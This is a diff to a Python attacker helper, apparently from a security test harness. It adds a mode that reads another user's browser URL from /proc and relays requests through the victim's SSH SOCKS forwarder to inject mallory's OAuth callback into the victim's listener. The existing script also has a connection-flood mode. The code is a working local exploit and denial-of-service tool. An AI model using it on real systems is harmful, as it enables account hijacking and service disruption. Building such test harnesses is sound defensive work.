@@ -13,6 +13,12 @@
       What it found and what the replays got: $EXCHANGE/attacker.json.
   replay URL
       Opens URL as mallory's browser, following redirects; prints what came back (JSON).
+  through-forwarder EXCHANGE VICTIM_UID
+      Finds the victim's handoff page in /proc (a browser's command line), asks for it
+      through the victim's SOCKS forwarder (its port in $EXCHANGE/forwarder-port: what
+      `ssh -D` offers every local user), writes $EXCHANGE/attacker-scanned, waits for the
+      victim's browser ($EXCHANGE/browser.json), then, when it got the URL, opens it as
+      mallory and sends mallory's callback through the forwarder. $EXCHANGE/attacker.json.
   flood HOST PORT EXCHANGE
       Holds as many idle connections to HOST:PORT as it can (reopening those that are
       closed, from 4 threads) until $EXCHANGE/stop exists (at most 120 s); writes
@@ -27,6 +33,7 @@ import sys
 import threading
 import time
 import urllib.error
+import urllib.parse
 import urllib.request
 
 SECRET = re.compile(r"[?&](state|code_challenge|device_token|request_uri)=")
@@ -107,6 +114,68 @@ def scan(exchange, victim_uid):
     write(os.path.join(exchange, "attacker.json"), report)
 
 
+def socks_get(forwarder, port, target):
+    """GET `target` on 127.0.0.1:port through a SOCKS5 forwarder; (status, headers text, body)."""
+    connection = socket.create_connection(("127.0.0.1", forwarder), timeout=10)
+    connection.sendall(b"\x05\x01\x00")
+    connection.recv(2)
+    connection.sendall(b"\x05\x01\x00\x01" + socket.inet_aton("127.0.0.1") + port.to_bytes(2, "big"))
+    connection.recv(10)
+    connection.sendall(("GET %s HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nConnection: close\r\n\r\n" % (target, port)).encode())
+    answer = b""
+    while True:
+        try:
+            data = connection.recv(65536)
+        except OSError:
+            break
+        if not data:
+            break
+        answer += data
+    connection.close()
+    head, _, body = answer.decode("utf-8", "replace").partition("\r\n\r\n")
+    status = int(head.split(" ")[1]) if head.startswith("HTTP/") else 0
+    return status, head, body
+
+
+def through_forwarder(exchange, victim_uid):
+    report = {}
+    deadline = time.monotonic() + 60
+    handoff = None
+    while handoff is None and time.monotonic() < deadline:
+        handoff = next((url for url in victims_urls(victim_uid) if url.endswith("/devtrust-sign-in")), None)
+        time.sleep(0.01)
+    report["handoff"] = handoff
+    with open(os.path.join(exchange, "forwarder-port")) as file:
+        forwarder = int(file.read())
+    target = urllib.parse.urlsplit(handoff)
+    status, head, _ = socks_get(forwarder, target.port, target.path)
+    location = next((line.split(": ", 1)[1] for line in head.split("\r\n") if line.lower().startswith("location: ")), None)
+    report["handoffStatus"], report["location"] = status, location
+    write(os.path.join(exchange, "attacker.json"), report)
+    with open(os.path.join(exchange, "attacker-scanned"), "w") as file:
+        file.write("scanned\n")
+    while not os.path.exists(os.path.join(exchange, "browser.json")) and time.monotonic() < deadline:
+        time.sleep(0.02)
+    if location:
+        report["mallorysCallback"] = None
+        # The server's 302 names the victim's listener with mallory's code: sent through the forwarder.
+        request = urllib.request.Request(location, headers={"Cookie": "reference-user=mallory@example.com"})
+
+        class NoFollow(urllib.request.HTTPRedirectHandler):
+            def redirect_request(self, *arguments):
+                return None
+        try:
+            urllib.request.build_opener(NoFollow()).open(request, timeout=10)
+        except urllib.error.HTTPError as error:
+            back = urllib.parse.urlsplit(error.headers.get("Location", ""))
+            try:
+                status, _, body = socks_get(forwarder, back.port, back.path + "?" + back.query)
+                report["mallorysCallback"] = {"status": status, "body": body[:2000]}
+            except OSError as failure:
+                report["mallorysCallback"] = {"status": 0, "error": repr(failure)}
+    write(os.path.join(exchange, "attacker.json"), report)
+
+
 def flood(host, port, exchange):
     soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
     resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
@@ -149,5 +218,7 @@ if __name__ == "__main__":
         scan(sys.argv[2], int(sys.argv[3]))
     elif sys.argv[1] == "replay":
         print(json.dumps(open_as_mallory(sys.argv[2])))
+    elif sys.argv[1] == "through-forwarder":
+        through_forwarder(sys.argv[2], int(sys.argv[3]))
     elif sys.argv[1] == "flood":
         flood(sys.argv[2], int(sys.argv[3]), sys.argv[4])
